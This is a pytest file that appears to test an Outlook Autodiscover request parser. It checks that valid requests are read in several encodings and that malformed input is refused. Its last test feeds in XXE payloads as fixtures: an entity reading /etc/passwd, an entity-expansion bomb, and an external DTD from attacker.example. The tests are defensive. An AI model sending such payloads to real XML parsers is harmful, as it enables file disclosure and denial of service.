"""What Outlook posts is read without trust."""

from __future__ import annotations

import pytest

from keryx.core import errors
from keryx.web.clients import autodiscover

QUESTION = """\
<?xml version="1.0" encoding="utf-8"?>
<Autodiscover xmlns="http://schemas.microsoft.com/exchange/autodiscover/outlook/requestschema/2006">
  <Request>
    <EMailAddress>alice@example.org</EMailAddress>
    <AcceptableResponseSchema>%s</AcceptableResponseSchema>
  </Request>
</Autodiscover>
"""


def test_a_question_is_read_in_any_encoding() -> None:
    text = QUESTION % autodiscover.MAIL
    wanted = autodiscover.Question("alice@example.org", autodiscover.MAIL)
    assert autodiscover.read(text.encode()) == wanted
    assert autodiscover.read(text.replace("utf-8", "utf-16").encode("utf-16")) == wanted


@pytest.mark.parametrize(
    "text",
    [
        b"",
        b"Email=alice@example.org",
        b"<Autodiscover>",
        b"<Autodiscover/>",
        QUESTION.replace("alice@example.org", "").encode(),
        b"\xff\xfe\x00",
        b"<a>" * 100_000,
    ],
)
def test_what_is_no_question_is_refused(text: bytes) -> None:
    with pytest.raises(errors.BadInput):
        autodiscover.read(text)


@pytest.mark.parametrize(
    "document_type",
    [
        '<!DOCTYPE a [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        '<!DOCTYPE a [<!ENTITY x "y"><!ENTITY z "&x;&x;&x;&x;&x;&x;&x;&x;&x;&x;">]>',
        '<!DOCTYPE a SYSTEM "http://attacker.example/a.dtd">',
        "<!DOCTYPE a>",
    ],
)
def test_a_document_type_is_refused_with_all_that_it_could_define(document_type: str) -> None:
    head, rest = (QUESTION % autodiscover.MAIL).split("\n", 1)
    text = f"{head}\n{document_type}\n{rest.replace('alice', '&x;')}"
    with pytest.raises(errors.BadInput, match="document type"):
        autodiscover.read(text.encode())
